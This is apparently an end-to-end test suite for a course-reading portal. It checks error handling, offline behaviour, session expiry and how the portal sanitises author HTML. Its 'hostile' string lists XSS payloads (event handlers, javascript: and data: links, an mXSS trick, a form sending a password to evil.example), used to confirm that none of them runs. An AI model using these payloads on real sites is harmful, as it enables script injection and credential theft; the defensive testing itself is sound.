// What goes wrong while a course is read: bad replies, hostile authors, lost connections, ended sessions, full storage.
import type { FrameLocator, Page, Route } from 'playwright-core';
import { expect, it } from 'vitest';
import { uuidOf } from '../../../demo/server/db/uuidOf.ts';
import { fillSignIn, portal, signedIn } from '../support/harness.ts';
import { inBothMounts, inPlace, opened } from '../support/mounts.ts';
import { policyViolations } from '../support/policyViolations.ts';
import { press } from '../support/press.ts';
import { fillSignInAt } from '../support/signInAt.ts';
import { quiet } from '../support/quiet.ts';

const course = '**/users/me/objectives/*/objective-access';
const tree = '**/activity-with-aggregates';
const content = '**/users/me/objective-workflows/*/activity/*';
/** With which part a course opens, with its text (CALL-147). */
const opening = '**/users/me/objectives/*/opening*';
const finishParts = '**/finish-activity-workflows';

type Inside = Page | FrameLocator;
const heading = (inside: Inside, name: string) => inside.getByRole('heading', { name, exact: true });
const tryAgain = (inside: Inside) => inside.getByRole('button', { name: 'Try again' });
const markComplete = (inside: Inside) => inside.getByRole('button', { name: 'Mark as complete' });
const completed = (inside: Inside) =>
  inside.getByRole('group', { name: 'Previous and next part' }).getByRole('button', { name: 'Completed' });

const glo = `${portal}/learn/courses/${uuidOf('course:GLO 175')}/view/content`;

/** What a request of a frame says of who asks: its cookie is kept apart. */
async function framedSession(page: Page): Promise<Readonly<Record<string, string>>> {
  const cookie = (await page.context().cookies()).find(({ name }) => name === 'lms_frame_sid');
  return cookie ? { 'cookie': `${cookie.name}=${cookie.value}`, 'sec-fetch-site': 'same-origin' } : {};
}

/** A reply of the server, changed by `change`. */
const changed = (change: (body: Record<string, unknown>) => unknown) => async (route: Route) => {
  const request = route.request();
  const response = await route.fetch({
    headers: { ...request.headers(), ...(await framedSession(request.frame().page())) },
  });
  // Of a frame that has no session yet.
  if (!response.ok()) return route.fulfill({ response });
  const body = (await response.json()) as Record<string, unknown>;
  await route.fulfill({ response, json: change(body) ?? body });
};

const hostile = `
<p>Before the attack.</p>
<script>attacked('script')</script>
<img src="/assets/icon.svg" onload="attacked('onload')"><img src="/nowhere.png" onerror="attacked('onerror')">
<svg onload="attacked('svg')"><script>attacked('svg script')</script>
<a xlink:href="javascript:attacked('xlink')"><text y="20">drawn link</text></a></svg>
<p><a href="javascript:attacked('href')">plain link</a> <a href=" jav&#x09;ascript:attacked('tab')">masked link</a>
<a href="data:text/html,<script>opener.attacked('data')</script>">data link</a>
<a href="/learn/courses" onclick="attacked('onclick')" target="_self">own link</a></p>
<p onmouseover="attacked('mouse')" style="position:fixed;inset:0;z-index:99;background:red" class="dialog">covering</p>
<iframe srcdoc="<script>parent.attacked('frame')</script>"></iframe>
<object data="javascript:attacked('object')"></object><embed src="javascript:attacked('embed')">
<form action="https://evil.example/steal"><input name="password" autofocus onfocus="attacked('focus')"><button>Sign in</button></form>
<math>
<mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/x onerror=attacked('mxss')&gt;"></mglyph></table></mtext></math>
<details open ontoggle="attacked('toggle')"><summary>more</summary>inside</details>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css">
<style>body { display: none } @import "https://evil.example/b.css";</style>
<p>After the attack.</p>`;

const broken: readonly [what: string, pattern: string, title: string][] = [
  ['a course', course, 'The course could not be loaded'],
  ['a tree', tree, 'The content could not be loaded'],
  ['a text', content, 'This text could not be loaded'],
];
const faults: readonly [how: string, answer: (route: Route) => unknown, wait: number][] = [
  ['a 500', (route) => route.fulfill({ status: 500, json: { error: { code: 'server_error', message: 'no' } } }), 0],
  ['the wrong envelope', (route) => route.fulfill({ json: { something: 'else' } }), 0],
  ['no JSON', (route) => route.fulfill({ contentType: 'text/html', body: '<h1>Proxy</h1>' }), 0],
  ['a reply that never ends', () => undefined, 31_000],
];

inBothMounts((mount) => {
  it('hostile HTML of an author does nothing: no script runs, nothing leaves, the policy has nothing to stop (MEDIA-6)', async () => {
    const page = await mount.enter('mira');
    const stage = mount.stage(page);
    const { inside } = stage;
    const violations = await policyViolations(page);
    const attacks: string[] = [];
    const requests: string[] = [];
    await page.exposeFunction('attacked', (what: string) => attacks.push(what));
    page.on('request', (request) => requests.push(request.url()));
    page.on('dialog', (dialog) => attacks.push(dialog.message()));
    await page.route(
      content,
      changed((body) => ({ ...body, content: hostile })),
    );
    await page.route(
      opening,
      changed((body) => Object.assign(body['content'] ?? {}, { content: hostile }) && body),
    );
    await page.route(
      course,
      changed((body) => {
        Object.assign(body['objective'] as object, {
          about: hostile,
          description: `<img src=/x onerror="attacked('description')"> as text`,
          name: `Health <script>attacked('name')</script>`,
        });
      }),
    );
    await stage.go('GLO 175', '/view/content');
    await inside.getByText('After the attack.').waitFor();
    const address = page.url();
    const text = inside.locator('lectern-player .author');
    for (const name of ['plain link', 'masked link', 'data link', 'drawn link']) {
      const link = text.getByText(name, { exact: true });
      if (await link.count()) await link.first().click({ force: true, timeout: 2000 });
    }
    await text.getByText('covering').hover();
    expect(page.url()).toBe(address);
    expect(page.context().pages()).toHaveLength(1);
    // Buttons with a class are the product's own: an author has none.
    expect(
      await text
        .locator('script, iframe, object, embed, form, input, button:not([class]), style, link, meta, base')
        .count(),
    ).toBe(0);
    expect(
      await text.evaluate((root) =>
        [...root.querySelectorAll('*')]
          .flatMap(({ attributes }) => [...attributes].map(({ name, value }) => `${name}=${value}`))
          .filter((one) => /^(on|style|class=dialog)|javascript:|data:text/i.test(one)),
      ),
    ).toEqual([]);

    await stage.go('GLO 175', '/view/details');
    await inside.getByText('After the attack.').waitFor();
    await heading(inside, `Health <script>attacked('name')</script>`).waitFor();
    await inside.locator('lectern-player').getByText('as text').waitFor();
    expect(attacks).toEqual([]);
    expect(requests.filter((url) => url.includes('evil.example'))).toEqual([]);
    // Browsers tell of handlers, styles and bases while they parse inert text, in each of their parsers, their own sanitizer's too.
    const whileParsing = [
      /^(script-src-attr|style-src-attr|style-src-elem) inline |^base-uri /,
      /^(Executing inline event handler|Applying inline style|Setting the document's base URI)/,
    ];
    expect(violations.filter((one) => !whileParsing.some((form) => form.test(one)))).toEqual([]);
  });

  it.each(broken)(
    '%s that cannot be loaded says so and is loaded by the next try (ERR-6, ERR-16, DATA-23)',
    async (_, pattern, title) => {
      const page = await mount.enter('mira');
      const stage = mount.stage(page);
      const { inside } = stage;
      if (mount === inPlace) await page.clock.install();
      // The text is then asked for by itself.
      if (pattern === content) await page.route(opening, (route) => route.fulfill({ json: {} }));
      // What is no answer, and what is the wrong one, becomes the same error before anything is drawn.
      for (const [how, answer, wait] of mount === inPlace ? faults : faults.slice(0, 1)) {
        await page.route(pattern, answer);
        const asked = page.waitForRequest(pattern);
        await stage.go('GLO 175', '/view/content');
        await asked;
        // Settings and person have the same limit in time, and without them there is no page.
        if (wait > 0)
          for (const name of [/Mira Okafor/, 'Tutor']) await page.getByRole('button', { name }).first().waitFor();
        // What is asked for before the code is there has its limit in time from when the code takes it over: time passes until then.
        const told = async () => {
          if (wait > 0) await page.clock.fastForward(wait);
          return heading(inside, title).isVisible();
        };
        await expect.poll(told, { message: how, timeout: 90_000 }).toBe(true);
        await page.unroute(pattern);
        await press(tryAgain(inside));
        await inside.getByRole('group', { name: 'Previous and next part' }).waitFor();
        await inside.getByRole('article').locator('p').nth(1).waitFor();
      }
    },
  );

  it('without a connection what is read stays, and what is done goes by itself when it is back (CMD-13)', async () => {
    const { page, inside } = await opened(mount, 'mira', 'DAT 140', '/view/content');
    await heading(inside, 'A first look').waitFor();
    await inside.getByText('Five questions for every new table').waitFor();
    let sent = 0;
    page.on('requestfinished', (request) => void (request.url().includes('/finish-activity-workflows') && sent++));

    await page.context().setOffline(true);
    await inside.getByText('You are offline', { exact: true }).first().waitFor();
    await inside.getByText('Five questions for every new table').waitFor();
    await press(markComplete(inside));
    await inside
      .getByText(/You marked it as complete|Not sent yet/)
      .first()
      .waitFor();
    expect(sent).toBe(0);

    await page.context().setOffline(false);
    await inside.getByText('You are offline', { exact: true }).first().waitFor({ state: 'hidden' });
    await completed(inside).waitFor();
    await inside
      .getByText(/You marked it as complete|Not sent yet/)
      .first()
      .waitFor({ state: 'hidden' });
    expect(sent).toBe(1);
    await page.reload();
    await heading(inside, 'Names that help').waitFor();
  });

  it('a full storage breaks nothing: a course is started, read and marked (ERR-17)', async () => {
    const stage = await opened(mount, 'ada', 'SAF 110');
    const { inside } = stage;
    await inside.getByRole('button', { name: 'Start', exact: true }).waitFor();
    await stage.document().evaluate(() => {
      for (const storage of [localStorage, sessionStorage])
        for (let size = 2 ** 22; size >= 1; size /= 2)
          for (let tries = 0; tries < 3; tries++)
            try {
              storage.setItem(`filler${size}-${tries}`, 'x'.repeat(size));
            } catch {
              break;
            }
    });
    expect(
      await stage.document().evaluate(() => {
        try {
          localStorage.setItem('one more', 'thing that does not fit any more');
          return 'fits';
        } catch {
          return 'full';
        }
      }),
    ).toBe('full');
    await stage.page.reload();
    await press(inside.getByRole('button', { name: 'Start', exact: true }));
    await heading(inside, 'The first minute').waitFor();
    await inside.getByText('You smell smoke').waitFor();
    await press(markComplete(inside));
    await completed(inside).waitFor();
  });

  it('a part that the server refuses to complete says that it was not saved, and can be tried again', async () => {
    const { page, inside } = await opened(mount, 'mira', 'STA 210', '/view/content');
    await markComplete(inside).waitFor();
    await page.route(finishParts, (route) =>
      route.fulfill({ status: 500, json: { error: { code: 'server_error', message: 'no' } } }),
    );
    await press(markComplete(inside));
    await inside
      .getByRole('alert')
      .getByText('Unknown error. Please refresh the page and try again.')
      .or(inside.getByRole('alert').getByText('Internal error. Please refresh the page and try again.'))
      .first()
      .waitFor();
    await page.unroute(finishParts);
    await press(markComplete(inside));
    await completed(inside).waitFor();
  });
});

// What follows is of lists, of tabs beside each other and of the portal's own page. A session that ends under a frame
// is begun again by its host: hostPartner.e2e.ts.

it('one wrong part among good ones does not take the course away (DATA-21)', async () => {
  const page = await signedIn('mira', '/learn/forbidden', { viewport: { width: 1440, height: 900 } });
  await page.route(
    tree,
    changed((body) => {
      const children = body['children'] as Record<string, unknown>[];
      Object.assign(children[1]!, { child: { name: 17, type: 99, state: 'odd' }, order: 'second', constraint: 'none' });
    }),
  );
  await page.goto(glo);
  await page.getByRole('treeitem', { name: 'A map of burdens' }).click();
  await page.getByText('Place the countries on a map').waitFor();
  expect(await page.getByRole('treeitem').count()).toBeGreaterThanOrEqual(4);
});

it('the list without a connection is the one that was shown, and is heard again with it', async () => {
  const page = await signedIn('mira', '/learn/courses');
  await page.getByRole('article').first().waitFor();
  // The code of the notice comes when the cards have stood for a while; without a connection it could not be had.
  await page
    .waitForResponse((reply) => reply.url().includes('Panels') || reply.url().includes('panels'), { timeout: 8000 })
    .catch(() => undefined);
  await page.context().setOffline(true);
  await page.getByText('You are offline', { exact: true }).first().waitFor();
  expect(await page.getByRole('article').count()).toBeGreaterThan(5);
  await page.context().setOffline(false);
  await page.getByText('You are offline', { exact: true }).first().waitFor({ state: 'hidden' });
});

it('a session that the server ended while reading: the text stays, signing in beside it sends what was done (SESS-3, SESS-5)', async () => {
  const { page } = await opened(inPlace, 'mira', 'ETH 105', '/view/content');
  await heading(page, 'Changing one’s mind').waitFor();
  await page.getByText('The right to withdraw').waitFor();
  const second = await page.context().newPage();
  await second.goto(page.url());
  await second.getByText('The right to withdraw').waitFor();
  // What a tab tells of a part that is shown is answered before the end; it would go to sign-in for it, with nothing to lose.
  await Promise.all([page, second].map((tab) => quiet(tab)));
  const address = page.url();

  const cookies = (await page.context().cookies(portal)).map(({ name, value }) => `${name}=${value}`).join('; ');
  const ended = await fetch(`${portal}/oidc/logout`, { headers: { cookie: cookies }, redirect: 'manual' });
  expect(ended.status).toBeLessThan(400);

  // In two tabs: both wait, one signs in, both go on.
  const dialog = (tab: Page) => tab.getByRole('dialog', { name: 'Your session has ended' });
  for (const tab of [page, second]) {
    // In this order: a tab that comes to the front asks again, and with nothing to lose it would go to sign-in at once.
    // The stream of events may tell the second tab of the end before this press does: then the dialog is in front of the button.
    void press(markComplete(tab)).catch(() => undefined);
    await dialog(tab).waitFor();
    await tab.bringToFront();
    await tab.getByText('The right to withdraw').waitFor();
    expect(tab.url()).toBe(address);
  }
  const [popup] = await Promise.all([
    second.waitForEvent('popup'),
    dialog(second).getByRole('button', { name: 'Sign in again' }).last().click(),
  ]);
  // The end of a session at the server is a sign-out: the provider knows nobody any more, and asks (AUTH-10).
  await Promise.all([popup.waitForEvent('close'), fillSignInAt(popup, 'mira')]);
  for (const tab of [second, page]) {
    await dialog(tab).waitFor({ state: 'hidden' });
    await completed(tab).waitFor();
    await tab.getByText('The right to withdraw').waitFor();
  }
});

it('settings that cannot be loaded are logged, and that is all (ERR-8)', async () => {
  const page = await signedIn('mira', '/learn/forbidden');
  await page.route('**/config-ui/config.json', (route) => route.fulfill({ status: 500, body: '' }));
  await page.goto(`${portal}/learn/courses`);
  await page.getByRole('article').first().waitFor();
  await page.goto(glo);
  await page.getByRole('group', { name: 'Previous and next part' }).waitFor();
});

it('a deep page of somebody who signs in as somebody else is not theirs (PERM-6)', async () => {
  const page = await signedIn('nils', '/learn/forbidden');
  await page.goto(glo);
  await heading(page, 'Course is not available').waitFor();
  await page.getByRole('link', { name: 'Go to My courses' }).click();
  await heading(page, 'You have no courses yet').waitFor();
  // The list would go to sign-in by itself, across the way to the next page.
  await page.goto('about:blank');
  await page.context().clearCookies();
  await page.goto(glo);
  await fillSignIn(page, 'mira');
  await page.getByRole('group', { name: 'Previous and next part' }).waitFor();
});
